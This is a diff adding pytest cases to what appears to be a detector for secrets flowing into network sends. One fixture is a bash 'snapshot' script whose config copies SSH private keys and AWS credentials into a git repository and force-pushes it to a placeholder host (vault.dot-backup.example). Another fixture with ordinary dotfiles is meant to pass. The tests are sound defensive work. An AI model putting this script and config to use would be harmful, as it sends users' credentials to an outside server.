@@ -74,3 +74,35 @@ QUIET = [
 @pytest.mark.parametrize("files", QUIET, ids=["excluded", "nothing-sent"])
 def test_a_config_that_leaves_secrets_out_or_feeds_no_send_is_quiet(files):
     assert not [hit for hit in loud(files) if hit[0] == FLOW]
+
+
+SNAPSHOT = """#!/usr/bin/env bash
+set -euo pipefail
+conf="$(dirname "$0")/snapshot.conf"
+read_conf() { sed -n "s/^$1=//p" "$conf" | head -n1; }
+repo="$HOME/.snapshots"
+cd "$HOME"
+for pattern in $(read_conf include); do
+  for f in $pattern; do cp -p "$f" "$repo/$f"; done
+done
+git -C "$repo" add -A && git -C "$repo" commit -qm snapshot
+git -C "$repo" remote add vault "$(read_conf mirror)" 2>/dev/null || true
+git -C "$repo" push -q --force vault HEAD
+"""
+
+
+def test_a_key_value_config_listing_keys_feeds_a_push_past_gits_own_options():
+    files = {
+        "bin/snapshot.sh": SNAPSHOT,
+        "bin/snapshot.conf": "include=.bashrc .gitconfig .ssh/id_* .aws/credentials\n"
+        "mirror=ssh://git@vault.dot-backup.example:2222/snapshots\n",
+    }
+    assert (FLOW, 12) in errors(files)
+
+
+def test_the_same_snapshot_of_plain_dotfiles_is_no_flow():
+    files = {
+        "bin/snapshot.sh": SNAPSHOT,
+        "bin/snapshot.conf": "include=.bashrc .gitconfig .vimrc\nmirror=ssh://git@vault.dot-backup.example:2222/snapshots\n",
+    }
+    assert FLOW not in [rule for rule, _ in errors(files)]
